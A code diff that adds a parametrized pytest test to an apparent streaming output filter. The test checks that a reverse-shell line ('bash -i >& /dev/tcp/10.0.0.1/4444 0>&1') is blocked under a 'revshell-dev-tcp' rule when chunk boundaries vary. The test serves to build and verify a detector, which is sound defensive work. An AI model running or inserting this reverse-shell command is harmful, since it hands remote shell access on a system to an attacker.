@@ -341,6 +341,22 @@ def test_a_stream_acts_like_the_whole_answer_when_a_rule_reads_far_back(output, 
         assert streamed == redact(text, whole) and "Hunter2Pass9" not in streamed
 
 
+@pytest.mark.parametrize("size", [1, 3, 5, 8, 16])
+def test_a_block_that_began_in_released_text_ends_the_stream_with_the_verdicts_of_the_whole_answer(output, policy,
+                                                                                                   size):
+    """`bash -i >& ` goes out before `/dev/tcp` makes it a reverse shell (a stream cannot take text back); the block
+    then ends the stream without a stray empty `[REDACTED:...]`, and the interactive-shell flag inside it counts
+    as part of the block, once, as in the whole answer (an audit saw `commands:block,commands:flag`)."""
+    text, low = "Connect back with:\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nand wait.\n", policy.risk["low"]
+    whole = output.scan(text, low)
+    f = StreamFilter(lambda t: output.scan(t, low), output.hold_keywords(low), policy.stream.holdback_chars,
+                     policy.stream.max_pending_chars, context=output.context_chars(low))
+    streamed = "".join(stream_through(f, text, [size]))
+    assert "[REDACTED" not in streamed and "/dev/tcp" not in streamed and text.startswith(streamed)
+    assert f.blocked == ("revshell-dev-tcp",) and [h.rule_id for h in whole] == ["revshell-dev-tcp"]
+    assert dict(f.applied) == {("revshell-dev-tcp", "block"): 1}
+
+
 @pytest.mark.parametrize("size", [1, 2, 3, 4, 7])
 def test_letters_that_lower_case_longer_do_not_shift_the_hold(output, policy, size):
     """`İ` lower-cases to two characters: keyword positions must still line up with the text (a review found
